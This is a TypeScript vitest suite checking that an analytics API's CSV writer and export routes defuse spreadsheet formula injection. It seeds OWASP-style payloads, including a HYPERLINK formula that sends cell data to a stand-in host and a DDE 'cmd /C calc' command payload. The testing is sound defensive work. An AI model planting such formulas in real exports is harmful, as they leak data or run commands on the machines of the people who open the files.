import { parse } from 'csv-parse/sync';
import { describe, expect, it, vi } from 'vitest';
import { createApiApp } from '../../../functions/handlers/api/app.ts';
import { apiRoutes } from '../../../functions/handlers/api/route-table.ts';
import type { ApiDeps, RouteDefinition } from '../../../functions/handlers/api/routes.ts';
import type { Brand } from '../../../shared/contracts/brands.ts';
import type { PromptSetVersion } from '../../../shared/contracts/prompt-sets.ts';
import { csvField, isFormulaLike, toCsv, undefuseCsvCell } from '../../../shared/domain/csv.ts';
import { UnauthenticatedError } from '../../../shared/domain/errors.ts';
import { apiEvent, lambdaContext, verifiedToken } from '../../support/api-event.ts';
import { InMemoryWorkspaces } from '../../support/in-memory-workspaces.ts';

const TENANT = 'ws_01jz0000000000000000000000';
const BRAND = 'brd_01jz0000000000000000000000';
/** Payloads from OWASP's CSV injection page: every formula start the writer must defuse. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
];

function brand(): Brand {
  const now = '2026-01-01T00:00:00.000Z';
  return {
    id: BRAND,
    name: '=Acme',
    category: 'analytics',
    aliases: [],
    ownedDomains: [],
    markets: [],
    competitors: [],
    topics: [{ id: 'top_01jz0000000000000000000000', name: '@topic' }] as Brand['topics'],
    promptSetVersion: 1,
    version: 1,
    createdAt: now,
    createdBy: 'olga',
    updatedAt: now,
  } as Brand;
}

function promptSet(): PromptSetVersion {
  return {
    brandId: BRAND,
    version: 1,
    note: '',
    createdAt: '2026-01-01T00:00:00.000Z',
    createdBy: 'olga',
    counts: { total: PAYLOADS.length, branded: 0, nonBranded: PAYLOADS.length },
    prompts: PAYLOADS.map((text, i) => ({
      id: `prm_01jz00000000000000000000${String(i).padStart(2, '0')}`,
      text,
      topicId: 'top_01jz0000000000000000000000',
      intent: 'informational',
      locale: 'en-US',
      persona: PAYLOADS[(i + 1) % PAYLOADS.length] ?? null,
      branded: false,
    })) as PromptSetVersion['prompts'],
  };
}

async function appWithFormulaData() {
  const workspaces = new InMemoryWorkspaces();
  await workspaces.createWorkspaceWithOwner(
    { id: TENANT as never, name: 'Acme', createdAt: '2026-01-01T00:00:00.000Z', createdBy: 'olga', plan: 'trial' },
    { tenantId: TENANT as never, userId: 'olga', email: 'o@example.com', role: 'owner', joinedAt: '' },
  );
  await workspaces.addMember({
    tenantId: TENANT as never,
    userId: 'vic',
    email: 'v@e.com',
    role: 'viewer',
    joinedAt: '',
  });
  const deps = {
    workspaces,
    clock: { now: () => new Date('2026-11-25T10:00:00Z') },
    ids: { next: () => '01JZ0000000000000000000000' },
    brands: {
      getBrand: async () => brand(),
      getPromptSetVersion: async () => promptSet(),
    },
    // Every column of every warehouse row is attacker-reachable text (domains, prompt text, topic names).
    warehouse: {
      query: async (_name: string) => [
        new Proxy({}, { get: (_t, key) => (typeof key === 'string' ? PAYLOADS[key.length % PAYLOADS.length] : '') }),
      ],
    },
    verifier: {
      verify: async (raw: string) => {
        if (raw !== 'vic') throw new UnauthenticatedError('bad token');
        return verifiedToken('vic', TENANT, ['viewer']);
      },
    },
    maxBodyBytes: 1024,
    version: 'test',
  } as unknown as ApiDeps;
  const routes = apiRoutes(deps);
  return { app: createApiApp(deps, { error: vi.fn(), warn: vi.fn(), info: vi.fn(), debug: vi.fn() }, routes), routes };
}

/** Every route that can answer text/csv: declared as such, or taking `format=csv`. */
function csvRoutes(routes: RouteDefinition[]) {
  return routes.filter(
    (r) =>
      r.method === 'GET' &&
      (/csv/.test(r.docs?.responseMediaType ?? '') || (r.docs?.query && 'format' in r.docs.query.shape)),
  );
}

describe('the shared CSV writer', () => {
  it('defuses every OWASP formula start, quotes what needs quoting, keeps numbers', () => {
    for (const payload of PAYLOADS) expect(csvField(payload).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvField(-2)).toBe('-2');
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(toCsv(['a'], [['=1']])).toBe("a\r\n'=1\r\n");
    expect(undefuseCsvCell("'=1")).toBe('=1');
    expect(undefuseCsvCell("'plain")).toBe("'plain");
  });
});

describe('every CSV route defuses formula cells', () => {
  it('finds the CSV routes (prompt-set export and every analytics query)', async () => {
    const { routes } = await appWithFormulaData();
    const found = csvRoutes(routes).map((r) => r.path);
    expect(found).toContain('/brands/:brandId/prompt-set/export');
    expect(found.filter((p) => p.includes('/analytics/')).length).toBeGreaterThanOrEqual(7);
  });

  it('no cell of any CSV response starts with = + - @ tab or CR, and the planted payloads are there, defused', async () => {
    const { app, routes } = await appWithFormulaData();
    for (const route of csvRoutes(routes)) {
      const path = route.path.replace(':brandId', BRAND);
      const query =
        route.docs?.query && 'format' in route.docs.query.shape ? 'format=csv&from=2026-11-01&to=2026-11-24' : '';
      const res = await app.handle(apiEvent('GET', path, { token: 'vic', query }), lambdaContext);
      expect(res.statusCode, `${route.path}: ${res.body}`).toBe(200);
      expect(String(res.headers?.['content-type'])).toMatch(/^text\/csv/);
      const cells = (parse(String(res.body), { relax_column_count: true }) as string[][]).flat();
      const formulas = cells.filter(isFormulaLike);
      expect(formulas, route.path).toEqual([]);
      const defused = cells.filter((c) => c.startsWith("'") && isFormulaLike(c.slice(1)));
      expect(defused.length, route.path).toBeGreaterThan(0);
    }
  });
});

describe('prompt CSV round trip', () => {
  it('an exported prompt set imports back to the same text (the defusing apostrophe comes off)', async () => {
    const { promptsFromCsv, promptsToCsv } = await import('../../../functions/adapters/csv/prompt-csv.ts');
    const set = promptSet();
    set.prompts = set.prompts.map((p) => ({ ...p, text: `${p.text} which analytics tool is best for teams?` }));
    const csv = promptsToCsv(set.prompts, brand());
    const back = promptsFromCsv(csv, brand(), 100);
    // The CSV reader trims cells, so a payload that starts with tab or CR comes back without it.
    expect(back.map((p) => p.text)).toEqual(set.prompts.map((p) => p.text.trim()));
  });
});
